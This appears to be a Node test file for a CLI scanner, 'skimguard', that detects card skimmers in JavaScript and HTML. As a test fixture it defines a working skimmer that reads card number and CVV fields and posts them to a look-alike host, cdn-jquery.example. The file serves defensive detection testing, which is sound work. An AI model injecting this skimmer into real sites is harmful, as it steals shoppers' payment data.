import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../src/cli/index.ts';
import type { CommandIo } from '../../src/cli/io.ts';

const skimmer = `document.querySelector("#pay").addEventListener("click", function () {
  var x = new XMLHttpRequest();
  x.open("POST", "https://cdn-jquery.example/gate");
  x.send(btoa(document.getElementById("cc_number").value + ":" + document.getElementById("cvv").value));
});\n`;
const benign = 'export function add(a, b) { return a + b; }\n';

async function run(args: string[], options: Partial<CommandIo> = {}): Promise<{ code: number; stdout: string; stderr: string; records: Record<string, unknown>[] }> {
  let stdout = '';
  let stderr = '';
  const io: CommandIo = { stdout: (t) => { stdout += t; }, stderr: (t) => { stderr += t; }, progress: () => {}, isTty: false, ...options };
  const code = await main(args, io);
  const records = args.includes('--json') ? stdout.trim().split('\n').filter(Boolean).map((line) => JSON.parse(line) as Record<string, unknown>) : [];
  return { code, stdout, stderr, records };
}

describe('skimguard scan', () => {
  let dir: string;
  let server: Server;
  let base: string;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'skimguard-scan-'));
    writeFileSync(join(dir, 'skimmer.js'), skimmer);
    writeFileSync(join(dir, 'add.mjs'), benign);
    mkdirSync(join(dir, 'site'));
    writeFileSync(join(dir, 'site', 'page.html'), `<!doctype html><html><body>
<script>var a = 1;</script>
<script src="local.js"></script>
<button onclick="track('x')">Buy</button>
</body></html>`);
    writeFileSync(join(dir, 'site', 'local.js'), skimmer);
    writeFileSync(join(dir, 'image.js'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0x0d, 1, 2, 3]));
    writeFileSync(join(dir, 'data.js'), '{"a": [1, 2, 3]}');
    writeFileSync(join(dir, 'broken.js'), `${skimmer}\nfunction cut() { var q = {`);
    server = createServer((request, response) => {
      if (request.url === '/skimmer.js') {
        response.setHeader('content-type', 'application/javascript');
        response.end(skimmer);
      } else {
        response.statusCode = 404;
        response.end('no');
      }
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(() => {
    server.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test('--json prints one record per script in the documented shape, exit 1 when something is malicious', async () => {
    const { code, records } = await run(['scan', '--json', join(dir, 'skimmer.js'), join(dir, 'add.mjs')]);
    assert.equal(code, 1);
    assert.equal(records.length, 2);
    const [bad, good] = records as [Record<string, any>, Record<string, any>]; // eslint-disable-line @typescript-eslint/no-explicit-any
    assert.deepEqual(Object.keys(bad).sort(), ['bytes', 'evidence', 'malicious', 'score', 'scores', 'sha256', 'status', 'target', 'threshold'].sort());
    assert.equal(bad.status, 'analyzed');
    assert.equal(bad.malicious, true);
    assert.equal(bad.threshold, 50);
    assert.match(bad.sha256, /^[0-9a-f]{64}$/);
    assert.ok(bad.score < 50 && Number.isInteger(bad.score));
    assert.deepEqual(Object.keys(bad.scores).sort(), ['cryptomining', 'magecart', 'malware']);
    assert.ok(bad.evidence.some((item: { kind: string; line: number; message: string }) => item.kind === 'flow' && item.line === 4 && /cdn-jquery\.example/.test(item.message)));
    assert.equal(good.malicious, false);
    assert.ok(good.score >= 50);
  });

  test('the example shop from the README: the injected snippet is malicious, the cart widget is not', async () => {
    const { records } = await run(['scan', '--json', new URL('../../examples/', import.meta.url).pathname]);
    const cart = records.filter((record) => String(record.target).endsWith('cart.js'));
    const inline = records.find((record) => String(record.target).includes('inline script'));
    assert.ok(cart.length > 0 && cart.every((record) => record.malicious === false), JSON.stringify(cart));
    assert.equal(inline?.malicious, true);
  });

  test('exit 0 when nothing is malicious; --threshold moves the line', async () => {
    assert.equal((await run(['scan', join(dir, 'add.mjs')])).code, 0);
    const strict = await run(['scan', '--json', '--threshold', '2', join(dir, 'skimmer.js')]);
    assert.equal(strict.records[0]?.threshold, 2);
    assert.equal(strict.records[0]?.malicious, (strict.records[0]?.score as number) < 2);
  });

  test('a directory is scanned recursively and HTML pages expand into their scripts', async () => {
    const { records } = await run(['scan', '--json', join(dir, 'site')]);
    const targets = records.map((record) => String(record.target));
    assert.ok(targets.some((target) => target.includes('inline script')), targets.join('\n'));
    assert.ok(targets.some((target) => target.includes('onclick')), targets.join('\n'));
    assert.equal(targets.filter((target) => target.endsWith('local.js')).length, 2, 'linked from the page and found in the directory');
  });

  test('evidence in an inline script points at the line of the HTML page', async () => {
    writeFileSync(join(dir, 'inline.html'), `<html>\n<body>\n<p>hi</p>\n<script>\n${skimmer}</script>\n</body></html>`);
    const { records } = await run(['scan', '--json', join(dir, 'inline.html')]);
    const evidence = (records[0]?.evidence ?? []) as { kind: string; line: number }[];
    // the send is on line 4 of the script, whose code starts on line 4 of the page (right after <script>)
    assert.ok(evidence.some((item) => item.kind === 'flow' && item.line === 8), JSON.stringify(evidence));
  });

  test('bad input gets a status and a sentence, never a stack trace', async () => {
    const { code, records } = await run(['scan', '--json', join(dir, 'image.js'), join(dir, 'data.js'), join(dir, 'broken.js'), join(dir, 'missing.js')]);
    assert.equal(code, 2, 'a missing file is an I/O error');
    const byName = (name: string): Record<string, unknown> => records.find((record) => String(record.target).endsWith(name)) as Record<string, unknown>;
    assert.equal(byName('image.js').status, 'not_javascript');
    assert.equal(byName('data.js').status, 'not_javascript');
    assert.equal(byName('broken.js').status, 'parse_error');
    assert.equal(byName('broken.js').malicious, true, 'scored from what the tolerant parser recovered');
    assert.match(String(byName('broken.js').error), /does not parse/);
    assert.equal(byName('missing.js').status, 'fetch_failed');
    assert.match(String(byName('missing.js').error), /no such file/);
  });

  test('over the time budget the status is timeout', async () => {
    const { records } = await run(['scan', '--json', join(dir, 'skimmer.js')], { analysisTimeoutMs: 1 });
    assert.equal(records[0]?.status, 'timeout');
    assert.match(String(records[0]?.error), /longer than/);
  });

  test('URLs on loopback are refused unless --allow-private', async () => {
    const refused = await run(['scan', '--json', `${base}/skimmer.js`]);
    assert.equal(refused.records[0]?.status, 'fetch_failed');
    assert.match(String(refused.records[0]?.error), /127\.0\.0\.1|private|loopback|not allowed/i);
    const allowed = await run(['scan', '--json', '--allow-private', `${base}/skimmer.js`]);
    assert.equal(allowed.records[0]?.status, 'analyzed');
    assert.equal(allowed.records[0]?.malicious, true);
    const missing = await run(['scan', '--json', '--allow-private', `${base}/nope.js`]);
    assert.equal(missing.records[0]?.status, 'fetch_failed');
  });

  test('usage errors exit 2 with a sentence', async () => {
    const none = await run(['scan']);
    assert.equal(none.code, 2);
    assert.match(none.stderr, /at least one/);
    const badThreshold = await run(['scan', '--threshold', 'abc', 'x.js']);
    assert.equal(badThreshold.code, 2);
    assert.match(badThreshold.stderr, /--threshold/);
    assert.equal((await run(['frobnicate'])).code, 2);
    assert.equal((await run(['scan', '--no-such-flag', 'x'])).code, 2);
  });

  test('the human table shows the verdict and the evidence', async () => {
    const { stdout } = await run(['scan', join(dir, 'skimmer.js')]);
    assert.match(stdout, /MALICIOUS/);
    assert.match(stdout, /line 4:\d+ +\[high\]/);
  });
});
